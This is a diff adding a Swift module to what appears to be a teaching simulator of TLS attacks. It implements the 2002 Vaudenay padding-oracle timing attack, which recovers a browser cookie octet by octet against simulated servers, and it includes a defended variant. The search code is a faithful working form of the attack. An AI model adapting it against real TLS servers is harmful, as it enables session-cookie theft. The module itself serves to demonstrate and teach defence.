@@ -1,0 +1,139 @@
+import Crypto
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// A server that takes longer over a record whose padding is right gives a cookie away (Vaudenay 2002; Canvel, Hiltgen, Vaudenay and
+/// Vuagnoux 2003).
+package enum PaddingOracle: Exhibit {
+    package static let card = Card(
+        "padding-oracle", .record, .inPath, .read, variants: ["block", "short"], unit: "records", year: 2002,
+        cites: [.rfc(5246, "6.2.3.2"), .rfc(7366, "1")], cves: ["CVE-2003-0078"], words: PaddingOracleCard.self)
+
+    /// A compression of SHA-1 takes a microsecond, as on a machine of 2003.
+    static let costs = Costs(compression: 1)
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let digits = show.variant == "short" ? 2 : BlockRecord.size
+        let browser = try Browser(show, on: stage, digits: digits, costs: costs) {
+            $0.recordRules.macsBadPadding = show.isDefended
+        }
+        let attacker = show.attacker(on: stage)
+        browser.begin(attacker)
+        var search = PaddingSearch(RecordSwap(attacker, browser), attacker, digits: digits)
+        var outcome = Outcome()
+        outcome.say(PaddingOracleNote.costs(microseconds: costs.compression.microseconds))
+        outcome.say(PaddingOracleNote.aligned(digits: digits, offset: search.end - digits))
+        outcome.say(PaddingOracleNote.asks)
+        let cookie = search.run()
+        outcome.reached = cookie?.count == digits
+        outcome.loot = cookie.map { [("cookie", $0)] } ?? []
+        outcome.truth = [("cookie", browser.cookie)]
+        outcome.tries = search.swap.count
+        let codes = Browser.digits.map { Double($0) + 2 }
+        let mean = codes.reduce(0, +) / 16
+        let variance = codes.map { ($0 - mean) * ($0 - mean) }.reduce(0, +) / 16
+        outcome.theory = Theory(
+            mean: Double(digits) * mean, deviation: (Double(digits) * variance).squareRoot(),
+            "Σ (v + 2) over the L octets v of the cookie", [("L", Double(digits))])
+        outcome.evidence = [
+            ("server", .socket(Socket(.server, 443))), ("client", .socket(IPv4Address.client)),
+            ("compression_us", .number(Int(costs.compression.microseconds))),
+        ]
+        outcome.connections = [0, 1, browser.connections - 1]
+        if let hit = search.firstHit {
+            outcome.connections.insert(hit.answer.connection)
+            outcome.say(
+                PaddingOracleNote.hit(guess: hit.guess, after: hit.answer.time, others: search.times.keys.min() ?? 0),
+                frames: [hit.answer.frame, hit.answer.answer],
+                [
+                    .init("block before it", hit.previous), .init("the cookie's block", hit.block),
+                    .init("forged block", hit.forged),
+                ])
+            outcome.say(PaddingOracleNote.next)
+        }
+        outcome.say(PaddingOracleNote.times(search.times.sorted { $0.key < $1.key }.map { ($0.key, $0.value) }))
+        if let cookie {
+            outcome.say(PaddingOracleNote.read(String(decoding: cookie, as: UTF8.self)), [.init("cookie", cookie)])
+        } else {
+            outcome.say(PaddingOracleNote.nothing, cite: .rfc(5246, "6.2.3.2"))
+        }
+        outcome.reproduce = [
+            "tshark -r FILE -Y 'tls.record.content_type==21 && ip.src==10.0.0.2' -T fields -e tcp.time_delta | sort | uniq -c"
+        ]
+        return outcome
+    }
+}
+
+/// How the attacker goes about it: octet after octet from the end of the cookie, the guesses in ascending order.
+private struct PaddingSearch {
+    /// A guess whose answer came late.
+    struct Hit {
+        let guess: UInt8
+        let answer: RecordSwap.Answer
+        let previous, block, forged: [UInt8]
+    }
+
+    private(set) var swap: RecordSwap
+    private(set) var firstHit: Hit?
+    /// How many answers took how many microseconds.
+    private(set) var times: [Int64: Int] = [:]
+    /// Where the cookie ends in the request: where a block ends.
+    let end: Int
+    private let path: [UInt8]
+    private let digits: Int
+    private let attacker: Attacker
+    private var noise: SeededRandomSource
+
+    init(_ swap: RecordSwap, _ attacker: Attacker, digits: Int) {
+        self.swap = swap
+        self.attacker = attacker
+        self.digits = digits
+        noise = attacker.random
+        let excess = (Browser.head(path: []).count + digits) % BlockRecord.size
+        path = [UInt8](repeating: UInt8(ascii: "a"), count: (BlockRecord.size - excess) % BlockRecord.size)
+        end = Browser.head(path: path).count + digits
+    }
+
+    /// The cookie; nil if no answer ever came later than the others.
+    mutating func run() -> [UInt8]? {
+        var known: [UInt8] = []
+        while known.count < digits {
+            guard let octet = next(knowing: known) else { return nil }
+            known.insert(octet, at: 0)
+        }
+        return known
+    }
+
+    private mutating func next(knowing known: [UInt8]) -> UInt8? {
+        for guess in UInt8.min...UInt8.max {
+            // A longer padding by chance would look the same. With other noise before it, it does not come a second time.
+            if isLate(guess, knowing: known), isLate(guess, knowing: known) { return guess }
+        }
+        return nil
+    }
+
+    /// Whether the answer comes later than the quickest so far, where the cookie's block stands at the end behind a forged one.
+    private mutating func isLate(_ guess: UInt8, knowing known: [UInt8]) -> Bool {
+        let padding = UInt8(truncatingIfNeeded: known.count)
+        let mask = noise.octets(BlockRecord.size - known.count - 1) + ([guess] + known).map { $0 ^ padding }
+        let place = end / BlockRecord.size - 1
+        var seen: (previous: [UInt8], block: [UInt8], forged: [UInt8]) = ([], [], [])
+        let answer = swap.ask(path: path) { octets in
+            let record = BlockRecord(octets)
+            let (previous, block) = (record.block(place - 1), record.block(place))
+            seen = (previous, block, previous ^ mask)
+            return record.ending(in: [seen.forged, block])
+        }
+        guard let answer else { return false }
+        times[answer.time, default: 0] += 1
+        guard let quickest = times.keys.min(), answer.time > quickest else { return false }
+        if firstHit == nil {
+            firstHit = Hit(
+                guess: guess, answer: answer, previous: seen.previous, block: seen.block, forged: seen.forged)
+        }
+        return true
+    }
+}
